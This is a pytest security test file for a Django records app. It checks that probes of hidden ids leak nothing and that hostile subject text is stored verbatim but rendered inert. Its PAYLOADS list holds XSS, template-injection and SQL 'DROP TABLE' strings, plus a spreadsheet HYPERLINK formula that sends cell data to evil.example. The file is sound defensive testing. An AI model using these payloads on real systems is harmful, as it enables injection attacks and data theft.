"""An attacker's input: ids and numbers probed one by one are answered exactly as if they did not
exist, and script, template and SQL payloads are stored as given and rendered inert everywhere."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from registrum.accounts.services import issue_token
from registrum.policy import Level
from registrum.records.models import Document

pytestmark = pytest.mark.django_db

NEVER_ISSUED = "zzzzzzzzzzzzzzzz"


# A page's CSRF token is masked afresh for every answer: the one part that may differ.
CSRF_TOKEN = re.compile(rb"[A-Za-z0-9]{64}")


def _same_answer(first, second, secret_id: str) -> None:
    assert first.status_code == second.status_code
    # The bodies differ at most where the probed id itself is echoed.
    assert CSRF_TOKEN.sub(b"T", first.content.replace(secret_id.encode(), b"ID")) == CSRF_TOKEN.sub(
        b"T", second.content.replace(NEVER_ISSUED.encode(), b"ID")
    )


def test_an_unseen_document_answers_exactly_as_one_that_never_existed(client, world, pdf_upload):
    registered = world.register(level=Level.NS, subject="Corridor plan", upload=pdf_upload)
    doc, reg = registered.document.public_id, registered.public_id
    client.force_login(world.outsider)
    api = Client(headers={"Authorization": f"Bearer {issue_token(world.outsider, world.outsider, name='probe')}"})
    for name, args in [
        ("records:detail", [doc]),
        ("records:download", [doc, 1]),
        ("records:correct", [reg]),
    ]:
        real = client.get(reverse(name, args=args))
        fake = client.get(reverse(name, args=[NEVER_ISSUED if a in (doc, reg) else a for a in args]))
        assert real.status_code == 404
        _same_answer(real, fake, doc if doc in args else reg)
    for path in ["/documents/{}", "/documents/{}/versions/1/content"]:
        real = api.get("/api/v1" + path.format(doc))
        fake = api.get("/api/v1" + path.format(NEVER_ISSUED))
        assert real.status_code == 404, path
        _same_answer(real, fake, doc)
    real = api.get(f"/api/v1/registrations/{reg}")
    fake = api.get(f"/api/v1/registrations/{NEVER_ISSUED}")
    assert real.status_code == 404
    _same_answer(real, fake, reg)
    # Numbers: the exact number of an unseen registration finds nothing, as an unissued one does.
    found = api.get("/api/v1/documents/lookup", {"q": registered.number})
    unissued = api.get("/api/v1/documents/lookup", {"q": registered.number + "9"})
    assert found.status_code == unissued.status_code == 200
    assert found.json() == unissued.json() == []


PAYLOADS = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ request.user.password }} {% debug %}",
    "'; DROP TABLE records_document; --",
    '=HYPERLINK("http://evil.example/"&A1)',
    "javascript:alert(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_subject_is_stored_as_given_and_rendered_inert(client, world, payload):
    registered = world.register(level=Level.NR, subject=payload, originator=payload[:60])
    document = Document.objects.get(pk=registered.document_id)
    assert document.subject == payload  # stored exactly, nothing stripped or "cleaned"
    client.force_login(world.clerk)
    for url in [reverse("records:list"), reverse("records:detail", args=[document.public_id]), reverse("web:home")]:
        html = client.get(url).content.decode()
        assert escape(payload) in html, url  # shown, as text
        assert "<script>alert" not in html and "<img src=x" not in html, url  # never as markup
        assert "sql_queries" not in html, url  # the template payload did not run
    exported = client.get(reverse("records:export")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    subjects = [cell for row in rows for cell in row if payload.lstrip("=") in cell]
    assert subjects, "the subject is in the export"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in subjects)
    api = Client(headers={"Authorization": f"Bearer {issue_token(world.clerk, world.clerk, name='probe')}"})
    body = api.get(f"/api/v1/documents/{document.public_id}").content
    assert json.loads(body)["subject"] == payload  # JSON carries it exactly; a browser never renders it
    assert Document.objects.count() == 1  # the SQL payload did not run
